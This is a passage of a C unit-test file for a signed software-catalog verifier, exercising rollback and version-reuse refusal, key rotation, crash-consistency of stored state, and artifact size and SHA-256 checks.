	assert_int_equal(s.version, 42);
	assert_int_equal(catalog_state_load_current(sfd, &cur, &err), -ENOENT);
	assert_int_equal(catalog_state_lock(sfd, &lock), 0);

	/* A catalog that was only parsed, never verified, cannot be accepted. */
	assert_int_equal(catalog_parse((const uint8_t *)v3, strlen(v3), &c, NULL), 0);
	assert_int_equal(catalog_state_accept(sfd, c, T(NOW), &err), -EINVAL);
	catalog_free(TAKE_PTR(c));

	assert_int_equal(verify_signed(trust, sfd, v3, 0, &c, &err), 0);
	assert_int_equal(catalog_state_accept(sfd, c, T(NOW), &err), 0);
	assert_int_equal(catalog_state_load(sfd, &s, &err), 0);
	assert_string_equal(s.channel, "stable");
	assert_int_equal(s.version, 3);
	assert_memory_equal(s.sha256, c->sha256, 32);
	assert_string_equal(s.key_id, keys[0].pub.id);
	assert_int_equal(s.accepted_at, T(NOW));
	/* The exact bytes and signature are kept, and state.json names their hash. */
	assert_int_equal(fs_read_file_at(sfd, "catalog/current.json", CATALOG_MAX_SIZE, &b), 0);
	assert_int_equal(buf_len(b), strlen(v3));
	assert_memory_equal(buf_ptr(b), v3, strlen(v3));
	buf_free(TAKE_PTR(b));
	assert_int_equal(fs_read_file_at(sfd, "catalog/current.sig", 4096, &b), 0);
	assert_memory_equal(buf_ptr(b), c->sig, c->sig_len);
	buf_free(TAKE_PTR(b));
	assert_int_equal(fs_read_file_at(sfd, "catalog/state.json", 4096, &b), 0);
	sodium_bin2hex(hex, sizeof(hex), c->sha256, 32);
	assert_non_null(memmem(buf_ptr(b), buf_len(b), hex, 64));
	buf_free(TAKE_PTR(b));
	assert_int_equal(catalog_state_load_current(sfd, &cur, &err), 0);
	assert_int_equal(cur->version, 3);
	assert_string_equal(cur->key_id, keys[0].pub.id);
	assert_memory_equal(cur->sig, c->sig, c->sig_len);
	catalog_free(TAKE_PTR(cur));

	/* The same catalog again is fine, and accepting it again changes nothing. */
	old = TAKE_PTR(c);
	assert_int_equal(verify_signed(trust, sfd, v3, 0, &c, &err), 0);
	assert_int_equal(catalog_state_accept(sfd, c, T(NOW), &err), 0);
	catalog_free(TAKE_PTR(c));

	/* Version 2 after 3: a rollback, for the verifier and for accept on its own. */
	assert_int_equal(verify_signed(trust, sfd, v2, 0, &c, &err), SLATE_ERR_ROLLBACK);
	assert_non_null(strstr(err.msg, "older than the last accepted version 3"));
	{
		_cleanup_free_ char *sig = sign_with(&keys[0], "stable", v2, strlen(v2), false);

		/* Verified against no state (a stale check), then offered to accept. */
		assert_int_equal(catalog_verify(trust, "stable", (const uint8_t *)v2, strlen(v2),
		                                (const uint8_t *)sig, strlen(sig), NULL, T(NOW), &c,
		                                &err),
		                 0);
		assert_int_equal(catalog_state_accept(sfd, c, T(NOW), &err), SLATE_ERR_ROLLBACK);
		catalog_free(TAKE_PTR(c));
	}
	/* Version 3 with other bytes. */
	v3b = replace(v3, "\"description\":\"Alpine\"", "\"description\":\"Alpine!\"");
	assert_int_equal(verify_signed(trust, sfd, v3b, 0, &c, &err), SLATE_ERR_VERSION_REUSED);
	assert_int_equal(catalog_state_load(sfd, &s, &err), 0);
	assert_int_equal(s.version, 3);

	/* Version 4 moves on. */
	assert_int_equal(verify_signed(trust, sfd, v4, 0, &c, &err), 0);
	assert_int_equal(catalog_state_accept(sfd, c, T(NOW) + 60, &err), 0);
	catalog_free(TAKE_PTR(c));
	assert_int_equal(catalog_state_load(sfd, &s, &err), 0);
	assert_int_equal(s.version, 4);
	assert_int_equal(s.accepted_at, T(NOW) + 60);
	assert_int_equal(verify_signed(trust, sfd, v3, 0, &c, &err), SLATE_ERR_ROLLBACK);

	/* A crash between current.json and state.json is noticed, not trusted. */
	write_file(sfd, "catalog/current.json", v3, strlen(v3), 0644);
	assert_int_equal(catalog_state_load_current(sfd, &cur, &err), SLATE_ERR_DIGEST_MISMATCH);
	assert_null(cur);
	/* And state.json still holds the floor. */
	assert_int_equal(verify_signed(trust, sfd, v3, 0, &c, &err), SLATE_ERR_ROLLBACK);

	/* A damaged state.json is an error, not "no state". */
	write_file(sfd, "catalog/state.json", "{}", 2, 0644);
	assert_int_equal(catalog_state_load(sfd, &s, &err), SLATE_ERR_INVALID_FORMAT);
}

static struct catalog_trust *trust_with_state(int sfd)
{
	struct catalog_trust *t = trust_of(1, 0);
	struct slate_error err = {};

	if (catalog_trust_add_state_keys(t, sfd, &err) < 0)
		fail_msg("state keys: %s", err.msg);
	return t;
}

static void test_key_rotation(void **state)
{
	_cleanup_free_ char *v4_by_k1 = with_version("4"),
	                    *v3_with_k1 = catalog_with_keys("3", 1, 1),
	                    *v5_with_k2 = catalog_with_keys("5", 1, 2), *v6 = with_version("6"),
	                    *v7 = with_version("7");
	_cleanup_catalog_ struct catalog *c = NULL;
	_cleanup_close_ int sfd = -1;
	struct catalog_trust *t;
	struct slate_error err = {};
	struct stat st;

	assert_int_equal(mkdirat(tmp_fd, "rotation", 0755), 0);
	sfd = openat(tmp_fd, "rotation", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	assert_true(sfd >= 0);

	/* A catalog signed by key 1, which nobody introduced yet: refused. */
	t = trust_with_state(sfd);
	assert_int_equal(catalog_trust_count(t), 1);
	assert_int_equal(verify_signed(t, sfd, v4_by_k1, 1, &c, &err), SLATE_ERR_KEY_NOT_TRUSTED);
	/* A catalog that introduces a key but is signed by an untrusted one: refused too, and
	 * introduces nothing. */
	assert_int_equal(verify_signed(t, sfd, v5_with_k2, 2, &c, &err), SLATE_ERR_KEY_NOT_TRUSTED);
	catalog_trust_free(t);

	/* Key 0 (trusted) signs a catalog that introduces key 1. Verifying alone changes
	 * nothing; accepting does. */
	t = trust_with_state(sfd);
	assert_int_equal(verify_signed(t, sfd, v3_with_k1, 0, &c, &err), 0);
	catalog_trust_free(t);
	t = trust_with_state(sfd);
	assert_int_equal(catalog_trust_count(t), 1);
	assert_int_equal(catalog_state_accept(sfd, c, T(NOW), &err), 0);
	catalog_free(TAKE_PTR(c));
	catalog_trust_free(t);

	/* Now key 1 may sign. */
	t = trust_with_state(sfd);
	assert_int_equal(catalog_trust_count(t), 2);
	assert_non_null(catalog_trust_find(t, keys[1].pub.id));
	assert_int_equal(fstatat(sfd, "catalog/keys", &st, 0), 0);
	assert_int_equal(verify_signed(t, sfd, v4_by_k1, 1, &c, &err), 0);
	/* v4 does not list key 1 any more: accepting it withdraws key 1. */
	assert_int_equal(catalog_state_accept(sfd, c, T(NOW), &err), 0);
	catalog_free(TAKE_PTR(c));
	catalog_trust_free(t);

	t = trust_with_state(sfd);
	assert_int_equal(catalog_trust_count(t), 1);
	assert_int_equal(verify_signed(t, sfd, v6, 1, &c, &err), SLATE_ERR_KEY_NOT_TRUSTED);
	/* Key 0 came from the administrator, not from a catalog, and stays. */
	assert_int_equal(verify_signed(t, sfd, v7, 0, &c, &err), 0);
	catalog_free(TAKE_PTR(c));
	catalog_trust_free(t);
}

/* ---- artifacts ------------------------------------------------------------------------- */

static void test_artifact_stream(void **state)
{
	static const char data[] = "the artifact's bytes";
	struct catalog_artifact a = {.size = sizeof(data) - 1};
	struct catalog_artifact_check *c = NULL;
	struct slate_error err = {};

	crypto_hash_sha256(a.sha256, (const uint8_t *)data, a.size);
	sodium_bin2hex(a.sha256_hex, sizeof(a.sha256_hex), a.sha256, 32);

	/* Exact, in pieces. */
	assert_int_equal(catalog_artifact_check_new(&a, &c), 0);
	assert_int_equal(catalog_artifact_check_update(c, data, 5, &err), 0);
	assert_int_equal(catalog_artifact_check_update(c, data + 5, a.size - 5, &err), 0);
	assert_int_equal(catalog_artifact_check_final(c, &err), 0);
	catalog_artifact_check_free(c);

	/* One byte too many is refused at the update that brings it. */
	assert_int_equal(catalog_artifact_check_new(&a, &c), 0);
	assert_int_equal(catalog_artifact_check_update(c, data, a.size, &err), 0);
	assert_int_equal(catalog_artifact_check_update(c, "x", 1, &err), SLATE_ERR_SIZE_MISMATCH);
	assert_non_null(strstr(err.msg, "more than the declared 20 bytes"));
	assert_int_equal(catalog_artifact_check_final(c, &err), SLATE_ERR_SIZE_MISMATCH);
	catalog_artifact_check_free(c);

	/* Too short. */
	assert_int_equal(catalog_artifact_check_new(&a, &c), 0);
	assert_int_equal(catalog_artifact_check_update(c, data, a.size - 1, &err), 0);
	assert_int_equal(catalog_artifact_check_final(c, &err), SLATE_ERR_SIZE_MISMATCH);
	assert_non_null(strstr(err.msg, "19 bytes, fewer than the declared 20"));
	catalog_artifact_check_free(c);

	/* Right size, other bytes. */
	assert_int_equal(catalog_artifact_check_new(&a, &c), 0);
	assert_int_equal(catalog_artifact_check_update(c, "THE", 3, &err), 0);
	assert_int_equal(catalog_artifact_check_update(c, data + 3, a.size - 3, &err), 0);
	assert_int_equal(catalog_artifact_check_final(c, &err), SLATE_ERR_DIGEST_MISMATCH);
	assert_non_null(strstr(err.msg, a.sha256_hex));
	catalog_artifact_check_free(c);
}

static void test_artifact_fd(void **state)
{
	static char data[300000];
	struct catalog_artifact a = {.size = sizeof(data)};
	struct slate_error err = {};
	_cleanup_close_ int fd = -1;
	int p[2];

	for (size_t i = 0; i < sizeof(data); i++)
		data[i] = (char)(i * 7);
	crypto_hash_sha256(a.sha256, (const uint8_t *)data, sizeof(data));
	sodium_bin2hex(a.sha256_hex, sizeof(a.sha256_hex), a.sha256, 32);
	write_file(tmp_fd, "artifact", data, sizeof(data), 0644);

	fd = openat(tmp_fd, "artifact", O_RDONLY | O_CLOEXEC);
	assert_true(fd >= 0);
	assert_int_equal(catalog_artifact_check_fd(&a, fd, &err), 0);

	/* A larger file is refused before it is read. */
	a.size--;
	assert_int_equal(lseek(fd, 0, SEEK_SET), 0);
	assert_int_equal(catalog_artifact_check_fd(&a, fd, &err), SLATE_ERR_SIZE_MISMATCH);
	assert_int_equal(lseek(fd, 0, SEEK_CUR), 0);
	/* A smaller one at its end. */
	a.size += 2;
	assert_int_equal(lseek(fd, 0, SEEK_SET), 0);
	assert_int_equal(catalog_artifact_check_fd(&a, fd, &err), SLATE_ERR_SIZE_MISMATCH);
	a.size--;
	/* Changed bytes. */
	data[1000] ^= 1;
	write_file(tmp_fd, "artifact", data, sizeof(data), 0644);
	(void)safe_close(fd);
	fd = openat(tmp_fd, "artifact", O_RDONLY | O_CLOEXEC);
	assert_int_equal(catalog_artifact_check_fd(&a, fd, &err), SLATE_ERR_DIGEST_MISMATCH);

	/* Endless data: a pipe whose writer never closes. The check must give up as soon as
	 * one byte too many arrives instead of waiting for an end that never comes. */
	assert_int_equal(pipe2(p, O_CLOEXEC), 0);
	a.size = 1000;
	assert_int_equal(write(p[1], data, 1001), 1001);
	alarm(10);
	assert_int_equal(catalog_artifact_check_fd(&a, p[0], &err), SLATE_ERR_SIZE_MISMATCH);
	alarm(0);
	(void)safe_close(p[0]);
	(void)safe_close(p[1]);
}

static void test_error_names(void **state)
{
	assert_string_equal(catalog_error_name(SLATE_ERR_ROLLBACK), "rollback");
	assert_string_equal(catalog_error_name(SLATE_ERR_EXPIRED), "expired");
	assert_string_equal(catalog_error_name(SLATE_ERR_SIGNATURE_MISSING), "signature_missing");
	assert_string_equal(catalog_error_name(-ENOENT), "error");
	assert_string_equal(slate_strerror(SLATE_ERR_VERSION_REUSED),
	                    "Version already accepted with different contents");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	        cmocka_unit_test(test_time),
	        cmocka_unit_test(test_parse_valid),
	        cmocka_unit_test(test_parse_table),
	        cmocka_unit_test(test_parse_whole),
	        cmocka_unit_test(test_parse_keys),
	        cmocka_unit_test(test_message),
	        cmocka_unit_test(test_verify_table),
	        cmocka_unit_test(test_sign_detached),
	        cmocka_unit_test(test_public_key_parse),
	        cmocka_unit_test(test_public_key_format),
	        cmocka_unit_test(test_keygen_files),
	        cmocka_unit_test(test_trust_dir),
	        cmocka_unit_test(test_openssl_fixture),
	        cmocka_unit_test(test_openssl_now),
	        cmocka_unit_test(test_state),
	        cmocka_unit_test(test_key_rotation),
	        cmocka_unit_test(test_artifact_stream),
	        cmocka_unit_test(test_artifact_fd),
	        cmocka_unit_test(test_error_names),
	};

	return cmocka_run_group_tests(tests, setup, teardown);
}
